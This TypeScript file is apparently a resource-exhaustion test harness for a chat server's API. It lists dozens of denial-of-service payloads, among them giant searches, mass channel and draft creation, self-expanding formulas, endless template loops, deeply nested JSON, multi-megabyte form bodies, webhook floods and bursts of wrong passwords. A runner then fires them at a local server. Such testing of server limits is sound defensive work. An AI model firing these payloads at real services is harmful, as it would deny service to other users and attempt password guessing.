import { createECDH, randomBytes } from 'node:crypto'
import { Agent, request } from 'node:http'

type Params = Record<string, unknown>

interface Shot {
  method: string
  /** Below the server's URL. */
  path: string
  /** A function if they differ each time. */
  params?: Params | (() => Params)
  body?: Buffer
  type?: string
  accept?: string
  /** Without the attacker's account. */
  isAnonymous?: true
}

/** An attempt by one member to block everyone else. */
export interface Attack {
  what: string
  /** Sent once first, one after the other. */
  before?: Shot[]
  /** Sent at once. */
  shots: Shot[]
  /** Requests that undo what a response says was created, so that the attack can be repeated. */
  undo?: (answer: string) => Shot[]
}

export interface Attacker {
  email: string
  apiKey: string
  /** API key of an incoming webhook bot. */
  hookKey?: string | undefined
  /** Its user ID. */
  hookId?: number | undefined
  channel: string
  victim: string
  /** URLs of push services that accept connections and never respond. */
  silent?: readonly string[] | undefined
}

const many = <T>(count: number, make: (index: number) => T): T[] =>
  Array.from({ length: count }, (_, index) => make(index))
const words = (count: number, word = (index: number) => `w${index}`) => many(count, word).join(' ')
const api = (method: string, path: string, params: Shot['params'] = {}): Shot => ({
  method,
  path: `/api/v1${path}`,
  params,
})
const around = { anchor: 'newest', num_before: 100, num_after: 0 }
const fetching = (narrow: unknown) => api('GET', '/messages', { ...around, narrow })
const negated = (operator: string, operands: unknown[]) =>
  operands.map((operand) => ({ operator, operand, negated: true }))
const unfolding = (letters: number, times: number) => `$$\\def\\a{${'}'.repeat(letters)}}${'\\a'.repeat(times)}$$`
const formula = unfolding(900, 190)
/** A Liquid template that never ends, over a list in the payload. */
const endlessTemplate = `${'{% for a in list %}'.repeat(60)}{{ a }}${'{% endfor %}'.repeat(60)}`
const looped = { list: Array.from({ length: 100 }, () => '') }
/** A browser's push subscription. */
const browserAt = (address: string) => {
  const pair = createECDH('prime256v1')
  pair.generateKeys()
  return {
    endpoint: `${address}/push/${randomBytes(9).toString('base64url')}`,
    p256dh: pair.getPublicKey('base64url'),
    auth: randomBytes(16).toString('base64url'),
  }
}
const form = (method: string, path: string, text: string): Shot => ({
  method,
  path,
  body: Buffer.from(text),
  type: 'application/x-www-form-urlencoded',
})
const anonymous = (shot: Shot): Shot => ({ ...shot, isAnonymous: true })
const toMcp = (message: unknown): Shot => ({
  method: 'POST',
  path: '/mcp',
  body: Buffer.from(JSON.stringify(message)),
  type: 'application/json',
  accept: 'application/json, text/event-stream',
})
const toolCall = (id: number) => ({
  ...{ jsonrpc: '2.0', id, method: 'tools/call' },
  params: { name: 'list_channels', arguments: {} },
})
const plusSigns = (count: number) => '+'.repeat(count)
let names = 0
const newName = () => `n${names++}`

/** All attacks: beyond each limit, and the maximum within it. */
export function attacksOf({ hookKey, hookId, channel, victim, silent }: Attacker): Attack[] {
  const message = (content: string) =>
    api('POST', '/messages', { type: 'channel', to: channel, topic: 'attack', content })
  const one = (what: string, ...shots: Shot[]): Attack => ({ what, shots })
  const attacks = [
    one('a search of 7,000 words', fetching([['search', words(7_000)]])),
    one(
      'a search of 300,000 words',
      api('POST', '/messages/flags/narrow', {
        ...around,
        op: 'add',
        flag: 'read',
        narrow: [['search', words(300_000)]],
      }),
    ),
    one(
      'a search of 10,000 words whose messages are to be read',
      api('POST', '/messages/flags/narrow', {
        ...around,
        op: 'add',
        flag: 'read',
        narrow: [['search', words(10_000)]],
      }),
    ),
    one('a search of 4,000 words of one letter', fetching([['search', 'a '.repeat(4_000)]])),
    one(
      'the longest search that is taken',
      fetching([['search', words(100, (at) => 'abcdefghijklmnopqrst'[at % 20]!.repeat(3) + (at % 7))]]),
    ),
    one(
      'ten searches that are negated',
      fetching(
        negated(
          'search',
          many(10, (at) => `lean word${at}`),
        ),
      ),
    ),
    one(
      '600 negated searches',
      fetching(
        negated(
          'search',
          many(600, (at) => `w${at}`),
        ),
      ),
    ),
    one('40,000 negated ids', fetching(negated('id', many(40_000, Number)))),
    one(
      '100 negated ids, senders and topics',
      fetching([
        ...negated('id', many(50, Number)),
        ...negated(
          'topic',
          many(50, (at) => `t${at}`),
        ),
      ]),
    ),
    one('300,000 people of a conversation', fetching([['dm', many(300_000, () => 1)]])),
    one('100,000 terms of a queue', api('POST', '/register', { narrow: many(100_000, () => ['is', 'dm']) })),
    one('20 registers at once', ...many(20, () => api('POST', '/register', {}))),
    one('150 event queues', ...many(150, () => api('POST', '/register', { event_types: ['typing'] }))),
    one(
      '8 fetches of 5,000 at once',
      ...many(8, () => api('GET', '/messages', { anchor: 'newest', num_before: 5_000, num_after: 0 })),
    ),
    one(
      '20 fetches of 1,000 at once',
      ...many(20, () => api('GET', '/messages', { anchor: 'newest', num_before: 1_000, num_after: 0 })),
    ),
    one(
      '2,000 new channels',
      api('POST', '/users/me/subscriptions', { subscriptions: many(2_000, (at) => ({ name: `x${at}` })) }),
    ),
    one(
      '20,000 new channels',
      api('POST', '/users/me/subscriptions', { subscriptions: many(20_000, (at) => ({ name: `x${at}` })) }),
    ),
    one(
      '100 new channels',
      api('POST', '/users/me/subscriptions', () => ({ subscriptions: many(100, () => ({ name: newName() })) })),
    ),
    one(
      '20,000 settings of channels',
      api('POST', '/users/me/subscriptions/properties', {
        subscription_data: many(20_000, () => ({ stream_id: 1, property: 'is_muted', value: true })),
      }),
    ),
    one(
      '2,000 settings of channels',
      api('POST', '/users/me/subscriptions/properties', {
        subscription_data: many(2_000, (at) => ({ stream_id: 1, property: 'pin_to_top', value: at % 2 === 0 })),
      }),
    ),
    one(
      '70,000 ids to flag',
      api('POST', '/messages/flags', { op: 'add', flag: 'starred', messages: many(70_000, Number) }),
    ),
    one(
      '10,000 ids to flag',
      ...['add', 'remove'].map((op) =>
        api('POST', '/messages/flags', { op, flag: 'starred', messages: many(10_000, (at) => at + 1) }),
      ),
    ),
    one(
      '400 drafts of 9 kB',
      api('POST', '/drafts', { drafts: many(400, () => ({ type: '', to: [], content: 'x'.repeat(9_000) })) }),
    ),
    {
      ...one(
        '100 drafts of 9 kB, and deleting them',
        api('POST', '/drafts', { drafts: many(100, () => ({ type: '', to: [], content: 'x'.repeat(9_000) })) }),
      ),
      // the total is limited: without this, later requests would be refused
      undo: (answer: string) =>
        ((JSON.parse(answer).ids ?? []) as number[]).map((id) => api('DELETE', `/drafts/${id}`)),
    },
    {
      ...one('2,000 drafts of 9 kB, all at once', api('GET', '/drafts'), api('POST', '/register')),
      before: many(40, () =>
        api('POST', '/drafts', { drafts: many(50, () => ({ type: '', to: [], content: 'ж'.repeat(9_000) })) }),
      ),
    },
    one(
      '10,000 alert words',
      api('POST', '/users/me/alert_words', { alert_words: many(10_000, (at) => `word ${at}`) }),
    ),
    one(
      '3 MB of bot storage',
      api('PUT', '/bot_storage', { storage: Object.fromEntries(many(300, (at) => [`k${at}`, 'v'.repeat(10_000)])) }),
    ),
    one(
      'names of bot storage that mean something to JavaScript',
      api('PUT', '/bot_storage', { storage: '{"__proto__":"x","constructor":"y"}' }),
      api('GET', '/bot_storage'),
    ),
    one(
      'null bytes and halves of surrogate pairs',
      ...['"\\u0000"', '"\\ud800"', '{"a":[{"\\u0000":1}]}', '{"a":{"b":"\\udfff"}}'].flatMap((bad) => [
        api('POST', '/register', { event_types: `[${bad}]` }),
        api('POST', '/register', { client_capabilities: `{"a":${bad}}` }),
        api('POST', '/users/me/alert_words', { alert_words: `[${bad}]` }),
        api('PUT', '/bot_storage', { storage: `{"a":${bad}}` }),
        fetching(`[["search",${bad}]]`),
      ]),
      message('a\u0000b'),
    ),
    one('a formula that unfolds', message(formula)),
    one('a formula of 512 characters that unfolds', message(unfolding(300, 100))),
    one('six formulas that unfold', message(many(6, () => formula).join('\n\n'))),
    one('formulas, nested', message(`$$${'\\frac{'.repeat(400)}x${'}{y}'.repeat(400)}$$`)),
    one('9,900 characters of Markdown code', message(`\`\`\`markdown\n${'[a](b'.repeat(1_950)}\n\`\`\``)),
    one('10,000 characters of brackets', message('[a](https://b.org) ['.repeat(500))),
    one('10 texts of open emphasis at once', ...many(10, () => message('*a **a '.repeat(1_400)))),
    one(
      '40 wrong passwords at once',
      ...many(40, (at) => api('POST', '/fetch_api_key', { username: victim, password: `wrong ${at}` })),
    ),
    one(
      'a template of 60 nested loops, tried out',
      api('POST', '/integrations/generic/preview', { text_template: endlessTemplate, payload: looped }),
    ),
    one('a body of 40 MiB', {
      method: 'POST',
      path: '/api/v1/messages',
      body: Buffer.alloc(40 * 2 ** 20, 97),
      type: 'application/x-www-form-urlencoded',
    }),
    one('a body of 4 MiB that is one name', {
      method: 'POST',
      path: '/api/v1/messages',
      body: Buffer.alloc(4 * 2 ** 20 - 10, 97),
      type: 'application/x-www-form-urlencoded',
    }),
    one(
      '4 MB of plus signs without an account',
      ...['/api/v1/fetch_api_key', '/accounts/login'].map((path) =>
        anonymous(form('POST', path, `username=${plusSigns(4_000_000)}`)),
      ),
      anonymous(form('GET', '/api/v1/server_settings', `x=${plusSigns(4_000_000)}`)),
    ),
    one(
      '20 forms of 64 KB of plus signs at once without an account',
      ...many(20, () => anonymous(form('GET', '/api/v1/server_settings', `x=${plusSigns(65_000)}`))),
    ),
    one('4 MB of plus signs in a text', form('POST', '/api/v1/messages', `content=${plusSigns(4_000_000)}`)),
    one('4 MB of plus signs in an unknown parameter', form('POST', '/api/v1/messages', `x=${plusSigns(4_000_000)}`)),
    one('4 MB of ampersands', form('POST', '/api/v1/messages', '&'.repeat(4_000_000))),
    one('a batch of 100 calls of tools', toMcp(many(100, toolCall))),
    one('20 lists of tools at once', ...many(20, () => toMcp({ jsonrpc: '2.0', id: 1, method: 'tools/list' }))),
    one('20 calls of tools at once', ...many(20, (at) => toMcp(toolCall(at)))),
    one('4 MiB of empty lists', api('PUT', '/bot_storage', { storage: `{"a":[${'[],'.repeat(1_300_000)}[]]}` })),
    one('JSON that is nested deeply', api('PUT', '/bot_storage', { storage: '['.repeat(500_000) })),
  ]
  if (hookKey === undefined) return attacks
  const hook = (service: string, body: string, place = `&stream=${encodeURIComponent(channel)}`): Shot => ({
    method: 'POST',
    path: `/api/v1/external/${service}?api_key=${hookKey}${place}`,
    body: Buffer.from(body),
    type: 'application/json',
  })
  return [
    ...attacks,
    one(
      "a payload of 3.9 MB in Slack's format",
      hook('slack_incoming', JSON.stringify({ text: '*a _b ~c <http://x|'.repeat(205_000) })),
    ),
    one('a payload of JSON that is nested deeply', hook('json', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`)),
    one('a payload of JSON with 3 MB in one text', hook('json', JSON.stringify({ text: '``` '.repeat(780_000) }))),
    one('a payload of JSON with 290,000 values', hook('json', JSON.stringify({ list: many(290_000, () => 1) }))),
    ...(hookId === undefined
      ? []
      : [
          {
            ...one("a bot's own template of 60 nested loops", hook('generic', JSON.stringify(looped))),
            before: [api('PUT', `/bots/${hookId}/integrations/generic`, { text_template: endlessTemplate })],
          },
        ]),
    one(
      'a payload with 3 MB of open tags in a name',
      hook(
        'azuredevops',
        JSON.stringify({
          eventType: 'workitem.created',
          resource: { id: 1, fields: { 'System.CreatedBy': '<'.repeat(3_000_000) } },
        }),
      ),
    ),
    ...(silent === undefined
      ? []
      : [
          {
            ...one(
              `${silent.length} push services that never answer`,
              // without a channel, it's sent to the attacker
              hook('slack_incoming', '{"text":"psst"}', ''),
            ),
            before: silent.map((address) => api('POST', '/web_push/subscriptions', browserAt(address))),
          },
        ]),
  ]
}

/** Runs an attack, and returns the statuses; 0 for a connection that the server closed during sending. */
export class Gun {
  readonly #agent = new Agent({ keepAlive: true, maxSockets: 50 })
  readonly #port: number
  readonly #host: string
  readonly #authorization: string
  /** Built once, so that it doesn't slow down measurements in this process. */
  readonly #made = new WeakMap<Shot, Buffer>()

  constructor(port: number, host: string, { email, apiKey }: Attacker) {
    this.#port = port
    this.#host = host
    this.#authorization = `Basic ${Buffer.from(`${email}:${apiKey}`).toString('base64')}`
  }

  async prepare({ before = [] }: Attack): Promise<void> {
    for (const shot of before) await this.#send(shot, false)
  }

  async fire({ shots, undo }: Attack): Promise<number[]> {
    const answers = await Promise.all(shots.map((shot) => this.#send(shot, undo !== undefined)))
    const takenBack = undo ? answers.flatMap(({ body }) => undo(body)) : []
    answers.push(...(await Promise.all(takenBack.map((shot) => this.#send(shot, false)))))
    return answers.map(({ status }) => status)
  }

  close(): void {
    this.#agent.destroy()
  }

  #contentOf(shot: Shot): Buffer {
    const made = shot.body ?? this.#made.get(shot)
    if (made) return made
    const { params = {} } = shot
    const form = Object.entries(typeof params === 'function' ? params() : params).map(
      ([name, value]) => `${name}=${encodeURIComponent(typeof value === 'string' ? value : JSON.stringify(value))}`,
    )
    const content = Buffer.from(form.join('&'))
    if (typeof params !== 'function') this.#made.set(shot, content)
    return content
  }

  #send(shot: Shot, reads: boolean): Promise<{ status: number; body: string }> {
    const { method, path, type, accept, isAnonymous = path.startsWith('/api/v1/external/') } = shot
    const content = this.#contentOf(shot)
    return new Promise((resolve) => {
      const outgoing = request({
        agent: this.#agent,
        host: '127.0.0.1',
        port: this.#port,
        method,
        path,
        headers: {
          host: this.#host,
          'content-type': type ?? 'application/x-www-form-urlencoded',
          'content-length': content.length,
          ...(accept === undefined ? {} : { accept }),
          ...(isAnonymous ? {} : { authorization: this.#authorization }),
        },
      })
      const none = { status: 0, body: '{}' }
      outgoing.on('response', (incoming) => {
        const parts: Buffer[] = []
        if (reads) incoming.on('data', (part: Buffer) => parts.push(part))
        else incoming.resume()
        incoming.on('end', () => resolve({ status: incoming.statusCode ?? 0, body: Buffer.concat(parts).toString() }))
        incoming.on('error', () => resolve(none))
      })
      outgoing.on('error', () => resolve(none))
      outgoing.end(content)
    })
  }
}
